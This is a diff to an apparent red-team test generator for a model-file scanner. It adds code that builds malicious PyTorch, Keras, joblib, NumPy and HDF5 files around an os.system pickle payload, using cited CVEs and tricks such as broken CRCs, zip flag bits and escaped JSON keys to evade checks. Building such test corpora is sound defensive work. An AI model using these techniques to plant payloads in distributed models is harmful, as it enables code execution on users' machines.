@@ -17,7 +17,7 @@ writes them, Zstandard) come from the `7z` tool and the lz4 and zstandard module
 
 The Keras files (legacy .h5 models, .keras archives) are written with h5py by keras_files.py.
 
-Run: /usr/bin/python3 scripts/artifacts/gen-redteam.py   (Debian: p7zip-full python3-lz4 python3-zstandard python3-h5py)
+Run: /usr/bin/python3 scripts/artifacts/gen-redteam.py   (Debian: p7zip-full python3-lz4 python3-zstandard python3-h5py python3-torch python3-joblib python3-tables)
 """
 import bz2
 import gzip
@@ -463,6 +463,7 @@ def build():
     round_2026(evil)
     round_s20()
     round_s20_tar(evil)
+    round_s21()
 
 
 def joblib_array_header(dtype, shape):
@@ -711,6 +712,94 @@ def round_s20_tar(evil):
     hidden = member("pickle", evil)
     attack("s20-tar-directory-size-hides-member.tar", legacy(header("data/", len(hidden), b"5") + hidden),
            f"{src}: a directory entry whose size field covers the `pickle` member's header: tarfile skips no data after a directory")
+
+
+class _Command:
+    """Pickles as os.system(CMD) (its __reduce__), as a malicious object saved by the real libraries would."""
+
+    def __reduce__(self):
+        return (os.system, (CMD,))
+
+
+def _torch_save(obj, legacy=False):
+    """torch.save into memory (the zip format, or the legacy stacked-pickle format); torch is imported only here."""
+    import torch
+    buf = io.BytesIO()
+    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
+    return buf.getvalue()
+
+
+def _zip_set_flags(data, member_suffix, flags):
+    """Sets general-purpose flag bits on one member, in its local header and its central directory entry."""
+    out = bytearray(data)
+    for sig, flag_at, name_len_at, name_at in ((b"PK\x03\x04", 6, 26, 30), (b"PK\x01\x02", 8, 28, 46)):
+        at = out.find(sig)
+        while at >= 0:
+            n = struct.unpack_from("<H", out, at + name_len_at)[0]
+            if bytes(out[at + name_at: at + name_at + n]).endswith(member_suffix):
+                struct.pack_into("<H", out, at + flag_at, struct.unpack_from("<H", out, at + flag_at)[0] | flags)
+            at = out.find(sig, at + 4)
+    return bytes(out)
+
+
+def _zip_break_crc(data, member_suffix):
+    """Flips the stored CRC-32 of one member (local header and central directory): zipfile refuses it, readers that skip the check do not."""
+    out = bytearray(data)
+    for sig, crc_at, name_len_at, name_at in ((b"PK\x03\x04", 14, 26, 30), (b"PK\x01\x02", 16, 28, 46)):
+        at = out.find(sig)
+        while at >= 0:
+            n = struct.unpack_from("<H", out, at + name_len_at)[0]
+            if bytes(out[at + name_at: at + name_at + n]).endswith(member_suffix):
+                out[at + crc_at] ^= 0xFF
+            at = out.find(sig, at + 4)
+    return bytes(out)
+
+
+def round_s21():
+    """Session 21: files written by the real libraries (torch, joblib, numpy, pickle) around a __reduce__ payload."""
+    import json
+    import pickle as _pickle
+
+    import joblib.numpy_pickle_compat as joblib_compat
+    import numpy as np
+    import keras_files as k
+    src = "s21"
+    payload = _Command()
+    zipped, legacy = _torch_save(payload), _torch_save(payload, legacy=True)
+
+    def wrapper(saved):
+        return k.keras_archive(k.sequential3([k.dense3("dense", 4), k.torch_module_wrapper(saved)]))
+
+    attack("s21-keras3-torch-module-wrapper.keras", wrapper(zipped),
+           f"{src}: TorchModuleWrapper whose base64 `module` is a torch.save file: from_config runs torch.load(weights_only=False) (CVE-2025-49655, safe mode on in Keras 3.11.0-3.11.2)")
+    attack("s21-keras3-torch-module-wrapper-legacy.keras", wrapper(legacy),
+           f"{src}: TorchModuleWrapper holding a legacy-format torch.save (stacked pickles, not a zip)")
+    attack("s21-torch-save-legacy-format.pt", legacy, f"{src}: torch.save(_use_new_zipfile_serialization=False) of a payload object")
+    attack("s21-torch-zip-encrypted-flag.pt", _zip_set_flags(zipped, b"/data.pkl", 0x0001),
+           f"{src}: torch.save zip whose data.pkl has the 'encrypted' flag bit set (CVE-2025-1945: zipfile refuses it, PyTorch's reader ignores it)")
+    attack("s21-torch-zip-flag-bits.pt", _zip_set_flags(zipped, b"/data.pkl", 0x0020 | 0x0040),
+           f"{src}: torch.save zip whose data.pkl sets the 'patched data' and 'strong encryption' flag bits (CVE-2025-1945)")
+    attack("s21-torch-zip-bad-crc.pt", _zip_break_crc(zipped, b"/data.pkl"),
+           f"{src}: torch.save zip whose data.pkl has a wrong CRC-32 (CVE-2025-10156: zipfile raises, PyTorch does not check)")
+    zf = io.BytesIO()
+    joblib_compat.write_zfile(zf, _pickle.dumps(payload, protocol=2))
+    attack("s21-joblib-zfile.pkl", zf.getvalue(), f"{src}: joblib < 0.10 'ZF' file written by joblib's write_zfile (joblib.load of a path still reads it)")
+    attack("s21-npy-named-pickle.p0.npy", _pickle.dumps(payload, protocol=0),
+           f"{src}: a protocol 0 pickle named .npy: np.load(allow_pickle=True) unpickles bytes that are neither .npy nor zip")
+    npz_buf = io.BytesIO()
+    np.savez(npz_buf, weights=np.zeros(4, dtype="float32"), meta=np.array([payload], dtype=object))
+    attack("s21-npz-object-member.npz", npz_buf.getvalue(), f"{src}: np.savez with an object array member beside a float one (np.load(allow_pickle=True)['meta'])")
+    attack("s21-keras2-lambda-escaped-keys.h5", k.h5_model(k.sequential2([k.dense2("dense", 4), k.lambda2(k.lambda_bytecode())]), escaped_keys=True),
+           f"{src}: legacy .h5 whose model_config spells every \"class_name\" key as \"\\u0063lass_name\" (json.loads reads the plain key; a byte search for it finds nothing)")
+    import hdf5_objects
+    attack("s21-pytables-object-row.h5", hdf5_objects.pytables_objects([{"version": 1}, payload]),
+           f"{src}: HDF5 written by PyTables with an ObjectAtom VLArray whose second row is the payload (reading the array runs pickle.loads per row; pandas' HDFStore object data too)")
+    nested = io.BytesIO()
+    with zipfile.ZipFile(nested, "w") as z:
+        z.writestr(zip_member("model/pytorch_model.bin"), zipped)
+        z.writestr(zip_member("model/config.json"), json.dumps({"architectures": ["Net"]}))
+    attack("s21-zip-in-tar-gz.tar.gz", tar({"release/model.zip": nested.getvalue()}, "w:gz"),
+           f"{src}: a torch.save zip inside a zip inside a tar.gz (a model release archive)")
 
 
 def _npz64(member):
